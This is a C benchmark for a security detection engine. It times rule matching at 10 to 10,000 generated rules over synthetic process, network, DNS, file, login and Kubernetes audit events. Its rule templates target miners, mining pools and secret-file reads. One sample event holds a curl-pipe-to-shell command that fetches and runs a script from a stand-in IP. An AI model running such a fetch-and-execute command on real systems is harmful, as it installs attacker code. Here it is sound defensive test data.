/* Detection benchmark: per-event cost with 10, 100 and 1,000 rules (and
 * optionally more), generated from a few templates with a different literal
 * per rule, over a fixed mix of process, network, login, DNS, file and
 * Kubernetes audit events. Prints ns/event per rule count.
 *
 * Usage: bench_detect [events-per-round (default 200000)]
 * This is a benchmark, not a test: numbers depend on the machine. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "correlator/detect.h"
#include "correlator/event.h"

static const char *tmpl[] = {
    "title: exec %d\nid: b-exec-%d\nlevel: high\nlogsource: {category: process_exec}\n"
    "chainwatch: {tactic: execution}\ndetection:\n  s: {cmdline|contains: 'tool%dx'}\n"
    "  f: {parent_exe_name: [cron%d, init]}\n  condition: s and not f\n",
    "title: exe %d\nid: b-exe-%d\nlevel: low\nlogsource: {category: process_exec}\n"
    "chainwatch: {tactic: execution}\ndetection:\n  s: {exe|endswith: '/bin/miner%d', "
    "user: root}\n  condition: s # %d\n",
    "title: net %d\nid: b-net-%d\nlevel: medium\nlogsource: {category: net_connect}\n"
    "chainwatch: {tactic: impact}\ndetection:\n  s: {dst_port: %d, exe_name: 'x*%d'}\n"
    "  condition: s\n",
    "title: dns %d\nid: b-dns-%d\nlevel: medium\nlogsource: {category: dns_query}\n"
    "chainwatch: {tactic: impact}\ndetection:\n  s: {query|endswith: '.pool%d.example'}\n"
    "  condition: s # %d\n",
    "title: file %d\nid: b-file-%d\nlevel: medium\nlogsource: {category: file_op}\n"
    "chainwatch: {tactic: credential-access}\ndetection:\n  s: {path|startswith: '/secret%d/', "
    "op: [read, write]}\n  condition: s # %d\n",
    "title: login %d\nid: b-login-%d\nlevel: medium\nlogsource: {category: login}\n"
    "chainwatch: {tactic: initial-access}\ndetection:\n  s: {user: 'svc%d', success: true}\n"
    "  condition: s # %d\n",
    "title: audit %d\nid: b-audit-%d\nlevel: high\n"
    "logsource: {product: kubernetes, service: audit}\n"
    "chainwatch: {tactic: discovery}\ndetection:\n  s: {verb: [get, list], resource: 'crd%d'}\n"
    "  u: {user|startswith: 'system:serviceaccount:app%d:'}\n  condition: s or u\n",
};
#define NT (sizeof tmpl / sizeof tmpl[0])

static cw_ruleset *make(int n)
{
    size_t cap = (size_t)n * 512 + 1024, len = 0;
    char *y = malloc(cap);
    for (int i = 0; i < n; i++) {
        int k = 10000 + i;
        len += (size_t)snprintf(y + len, cap - len, "%s", i ? "---\n" : "");
        len += (size_t)snprintf(y + len, cap - len, tmpl[i % NT], k, k, k, k);
    }
    char err[512];
    cw_ruleset *rs;
    if (cw_ruleset_load_text(&rs, y, len, "bench.yml", err, sizeof err) < 0) {
        fprintf(stderr, "load: %s\n", err);
        exit(1);
    }
    free(y);
    return rs;
}

static void count(const cw_alert *a, void *ud)
{
    (void)a;
    (*(long *)ud)++;
}

static int64_t now_ns(void)
{
    struct timespec ts;
    /* Thread CPU time: other processes on a busy machine do not count. */
    clock_gettime(CLOCK_THREAD_CPUTIME_ID, &ts);
    return (int64_t)ts.tv_sec * 1000000000LL + ts.tv_nsec;
}

#define NEV 8

int main(int argc, char **argv)
{
    long rounds = argc > 1 ? atol(argv[1]) : 200000;
    /* A realistic mix: mostly process and network events, some audit. */
    Chainwatch__V1__Event pb[NEV];
    Chainwatch__V1__ProcessExec ex[2] = {CHAINWATCH__V1__PROCESS_EXEC__INIT,
                                         CHAINWATCH__V1__PROCESS_EXEC__INIT};
    Chainwatch__V1__NetConnect nc = CHAINWATCH__V1__NET_CONNECT__INIT;
    Chainwatch__V1__DnsQuery dq = CHAINWATCH__V1__DNS_QUERY__INIT;
    Chainwatch__V1__FileOp fo = CHAINWATCH__V1__FILE_OP__INIT;
    Chainwatch__V1__Login lg = CHAINWATCH__V1__LOGIN__INIT;
    char *av0[] = {"python3", "-m", "http.server", "--bind", "0.0.0.0", "8080"};
    char *av1[] = {"sh", "-c", "curl -fsSL http://198.51.100.7/tool10007x.sh | sh"};
    ex[0].exe = "/usr/bin/python3", ex[0].argv = av0, ex[0].n_argv = 6, ex[0].user = "app";
    ex[0].parent_exe = "/usr/sbin/cron";
    ex[1].exe = "/bin/sh", ex[1].argv = av1, ex[1].n_argv = 3, ex[1].user = "root";
    ex[1].parent_exe = "/usr/bin/node";
    nc.exe = "/usr/bin/curl", nc.dst_ip = "203.0.113.9", nc.has_dst_port = 1, nc.dst_port = 443;
    nc.proto = "tcp", nc.direction = "out";
    dq.exe = "/usr/bin/curl", dq.query = "api.github.com";
    fo.exe = "/usr/bin/cat", fo.op = "read", fo.path = "/etc/hostname";
    lg.user = "deploy", lg.src_ip = "10.0.0.5", lg.service = "sshd", lg.has_success = 1;
    lg.success = 1;
    cw_event ev[NEV];
    for (int i = 0; i < NEV; i++) {
        Chainwatch__V1__Event e = CHAINWATCH__V1__EVENT__INIT;
        pb[i] = e;
        pb[i].has_time_ns = 1;
        pb[i].time_ns = 1714557600LL * 1000000000LL + i;
    }
    pb[0].payload_case = CHAINWATCH__V1__EVENT__PAYLOAD_PROCESS_EXEC, pb[0].process_exec = &ex[0];
    pb[1].payload_case = CHAINWATCH__V1__EVENT__PAYLOAD_PROCESS_EXEC, pb[1].process_exec = &ex[1];
    pb[2].payload_case = CHAINWATCH__V1__EVENT__PAYLOAD_NET_CONNECT, pb[2].net_connect = &nc;
    pb[3].payload_case = CHAINWATCH__V1__EVENT__PAYLOAD_NET_CONNECT, pb[3].net_connect = &nc;
    pb[4].payload_case = CHAINWATCH__V1__EVENT__PAYLOAD_DNS_QUERY, pb[4].dns_query = &dq;
    pb[5].payload_case = CHAINWATCH__V1__EVENT__PAYLOAD_FILE_OP, pb[5].file_op = &fo;
    pb[6].payload_case = CHAINWATCH__V1__EVENT__PAYLOAD_LOGIN, pb[6].login = &lg;
    for (int i = 0; i < 7; i++) cw_event_from_agent(&ev[i], "agent-1", 1, (uint32_t)i, &pb[i], 0);
    json_t *audit = json_loads(
        "{\"auditID\":\"x\",\"stage\":\"ResponseComplete\",\"verb\":\"list\","
        "\"user\":{\"username\":\"system:serviceaccount:shop:default\"},"
        "\"objectRef\":{\"resource\":\"pods\",\"namespace\":\"shop\"},"
        "\"requestURI\":\"/api/v1/namespaces/shop/pods\",\"sourceIPs\":[\"10.0.0.7\"],"
        "\"responseStatus\":{\"code\":200},\"stageTimestamp\":\"2024-05-01T10:00:00Z\"}",
        0, NULL);
    cw_event_from_audit(&ev[7], "prod", audit, 0);

    int sizes[] = {10, 100, 1000, 10000};
    int nsizes = argc > 2 ? 4 : 3;
    cw_detector *d[4];
    for (int i = 0; i < nsizes; i++) cw_detector_create(&d[i], make(sizes[i]));
    /* Repetitions interleaved across sizes; the median and the minimum are
     * reported, so a noisy neighbour moves neither much. */
    enum { REPS = 7 };
    double ns[4][REPS];
    long alerts[4] = {0};
    for (int rep = 0; rep < REPS; rep++)
        for (int i = 0; i < nsizes; i++) {
            long a = 0;
            for (long r = 0; r < rounds / 10; r++) cw_detector_event(d[i], &ev[r % NEV], count, &a);
            a = 0;
            int64_t t0 = now_ns();
            for (long r = 0; r < rounds; r++) cw_detector_event(d[i], &ev[r % NEV], count, &a);
            ns[i][rep] = (double)(now_ns() - t0) / (double)rounds;
            alerts[i] = a;
        }
    printf("%-8s %14s %14s %10s\n", "rules", "median ns/ev", "min ns/ev", "alerts/run");
    for (int i = 0; i < nsizes; i++) {
        for (int x = 0; x < REPS; x++) /* sort */
            for (int y = x + 1; y < REPS; y++)
                if (ns[i][y] < ns[i][x]) {
                    double t = ns[i][x];
                    ns[i][x] = ns[i][y];
                    ns[i][y] = t;
                }
        printf("%-8d %14.1f %14.1f %10ld\n", sizes[i], ns[i][REPS / 2], ns[i][0], alerts[i]);
        cw_detector_free(d[i]);
    }
    json_decref(audit);
    return 0;
}
